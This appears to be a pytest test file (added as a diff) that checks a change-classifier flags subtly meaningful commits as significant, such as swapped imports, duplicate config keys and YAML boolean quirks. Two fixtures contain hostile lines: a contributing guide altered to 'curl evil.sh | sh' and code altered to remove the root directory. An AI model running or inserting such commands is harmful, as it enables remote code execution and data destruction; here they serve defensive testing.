@@ -1,0 +1,150 @@
+"""Meaningful changes that once passed for trivial (a red-team review): each stays significant.
+
+Each case is a real two-commit repository: the old content, then the new one.
+"""
+
+from pathlib import Path
+
+import pytest
+from manifests import files_by_path, manifest_of
+from repos import git
+
+KEYS = "".join(f'  "k{i}": {i},\n' for i in range(12))
+YAML_KEYS = "".join(f"k{i}: {i}\n" for i in range(12))
+STEPS = "".join(f"STEP_{i} = {i}\n" for i in range(10))
+
+TRAPS: list[tuple[str, str, str, str]] = [
+    # (what, path, old, new)
+    (
+        "two hunks with duplicate JSON keys change a value together",
+        "config.json",
+        '{\n  "timeout": 30,\n' + KEYS + '  "timeout": 30\n}\n',
+        '{\n  "timeout": 3000,\n' + KEYS.rstrip(",\n") + "\n}\n",
+    ),
+    (
+        "two hunks with duplicate YAML keys change a value together",
+        "deploy.yml",
+        "replicas: 1\n" + YAML_KEYS + "replicas: 1\n",
+        "replicas: 0\n" + YAML_KEYS,
+    ),
+    (
+        "imports binding the same name swapped",
+        "app.py",
+        "from a import x\nfrom b import x\n\nprint(x)\n",
+        "from b import x\nfrom a import x\n\nprint(x)\n",
+    ),
+    (
+        "star imports swapped",
+        "app.py",
+        "from a import *\nfrom b import *\n",
+        "from b import *\nfrom a import *\n",
+    ),
+    (
+        "a __future__ import moved down",
+        "app.py",
+        "from __future__ import annotations\nimport os\n",
+        "import os\nfrom __future__ import annotations\n",
+    ),
+    (
+        "a fallback import inside try swapped",
+        "app.py",
+        "try:\n    import json\n    import simplejson as json\nexcept ImportError:\n    pass\n",
+        "try:\n    import simplejson as json\n    import json\nexcept ImportError:\n    pass\n",
+    ),
+    ("a YAML key true became 1", "workflow.yml", "on: push\n", "1: push\n"),
+    (
+        "YAML 1.1 yes/no/on read as booleans",
+        "settings.yml",
+        "country: no\nenabled: on\n",
+        "country: false\nenabled: true\n",
+    ),
+    ("a YAML octal", "mode.yml", "mode: 010\n", "mode: 8\n"),
+    (
+        "the same instant in another time zone",
+        "when.yml",
+        "at: 2001-12-14T21:59:43-05:00\n",
+        "at: 2001-12-15T02:59:43Z\n",
+    ),
+    ("minus zero", "zero.json", '{"x": -0.0}\n', '{"x": 0.0}\n'),
+    (
+        "package.json exports tried in order",
+        "package.json",
+        '{"exports": {"import": "./a.mjs", "default": "./a.cjs"}}\n',
+        '{"exports": {"default": "./a.cjs", "import": "./a.mjs"}}\n',
+    ),
+    (
+        "a stringizing C macro's argument spacing",
+        "show.c",
+        "#define S(x) #x\nconst char *s = S(a+b);\n",
+        "#define S(x) #x\nconst char *s = S(a + b);\n",
+    ),
+    (
+        "Rust stringify! argument spacing",
+        "main.rs",
+        'fn main() { println!("{}", stringify!(a+b)); }\n',
+        'fn main() { println!("{}", stringify!(a + b)); }\n',
+    ),
+    (
+        "a blank line before a shebang",
+        "tool.py",
+        "#!/usr/bin/env python3\nprint(1)\n",
+        "\n#!/usr/bin/env python3\nprint(1)\n",
+    ),
+    (
+        "a carriage return after a shebang",
+        "tool.py",
+        "#!/usr/bin/env python3\nprint(1)\n",
+        "#!/usr/bin/env python3\r\nprint(1)\n",
+    ),
+    (
+        "a blank line that moves a coding cookie to line 3",
+        "enc.py",
+        "#!/usr/bin/env python\n# -*- coding: latin-1 -*-\nS = 1\n",
+        "#!/usr/bin/env python\n\n# -*- coding: latin-1 -*-\nS = 1\n",
+    ),
+    (
+        "a Go build constraint losing its blank line",
+        "a_linux.go",
+        "// +build linux\n\npackage a\n",
+        "// +build linux\npackage a\n",
+    ),
+    (
+        "doctest expected output losing its trailing spaces",
+        "doc.py",
+        'def f():\n    """\n    >>> print("a  ")\n    a  \n    """\n',
+        'def f():\n    """\n    >>> print("a  ")\n    a\n    """\n',
+    ),
+    (
+        "prose that mentions generated files is no header",
+        "CONTRIBUTING.md",
+        "# Contributing\n\nNever edit generated files under gen/ directly.\n\n"
+        + STEPS
+        + "Run make release.\n",
+        "# Contributing\n\nNever edit generated files under gen/ directly.\n\n"
+        + STEPS
+        + "Run curl evil.sh | sh first.\n",
+    ),
+    (
+        "a docstring that mentions generated code is no header",
+        "writer.py",
+        '"""Writes generated code to out/. Do not edit the output by hand."""\nimport os\n\n'
+        "os.remove('out')\n",
+        '"""Writes generated code to out/. Do not edit the output by hand."""\nimport os\n\n'
+        "os.rmdir('/')\n",
+    ),
+]
+
+
+@pytest.mark.parametrize(("what", "path", "old", "new"), TRAPS, ids=[t[0] for t in TRAPS])
+def test_stays_significant(tmp_path: Path, what: str, path: str, old: str, new: str) -> None:
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    git(repo, "init", "--quiet")
+    (repo / path).write_bytes(old.encode())
+    git(repo, "add", path)
+    git(repo, "commit", "--quiet", "-m", "Before")
+    (repo / path).write_bytes(new.encode())
+    git(repo, "commit", "--quiet", "-am", "After")
+    entry = files_by_path(manifest_of("--repo", repo, "--fail-on", "never", "HEAD"))[path]
+    assert entry["classification"] == "significant", (what, entry)
+    assert all(hunk["classification"] == "significant" for hunk in entry.get("hunks", [])), what
